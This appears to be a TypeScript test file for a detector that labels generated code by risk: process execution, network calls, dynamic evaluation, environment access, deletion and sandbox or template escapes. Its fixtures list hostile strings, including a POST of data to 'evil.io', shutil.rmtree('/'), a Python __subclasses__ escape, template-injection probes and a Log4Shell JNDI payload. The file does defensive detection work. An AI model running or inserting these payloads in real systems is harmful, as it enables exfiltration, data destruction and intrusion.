import { expect, test } from 'bun:test';
import { rulesOf } from '../../test/fixtures/looking.ts';
import { detector as code } from './generated-code.ts';

const CASES: Readonly<Record<string, readonly string[]>> = {
  'total = sum(row.price for row in rows)\nprint(total)': [], 'const evaluate = (x) => x.match(/eval(x)/);': ['dynamic'], 'model.eval()': [],
  're.compile("a")': [],
  'import os\nos.system("id")': ['process'], 'subprocess.run(["id"])': ['process'], 'require("child_process").execSync("id")': ['process'],
  'requests.post("https://evil.io", data=x)': ['network'], 'fetch("https://evil.io")': ['network'],
  'eval(input)': ['dynamic'], '__import__("os")': ['dynamic'], 'new Function ("return 1")': ['dynamic'], 'pickle.loads(x)': ['dynamic'],
  'print(os.environ["KEY"])': ['environment'], 'process.env.KEY': ['environment'], 'shutil.rmtree("/")': ['deletes'],
  '().__class__.__mro__[1].__subclasses__()': ['escapes'], '{{ config.items() }}': ['escapes'], '${jndi:ldap://evil.io}': ['escapes'], '{{7*7}}': ['escapes'],
};

test('code is told by what it calls, where tools take code', () => {
  for (const [text, rules] of Object.entries(CASES)) expect({ text, rules: rulesOf(code, { code: text }) }).toEqual({ text, rules });
  expect(rulesOf(code, { note: 'os.system("id")' })).toEqual([]);
  expect(rulesOf(code, { input: 'os.system("id")' }, { name: 'run_python' })).toEqual(['process']);
  expect(rulesOf(code, { code: Buffer.from('import os; os.system("id")').toString('base64') })).toEqual(['process']);
});
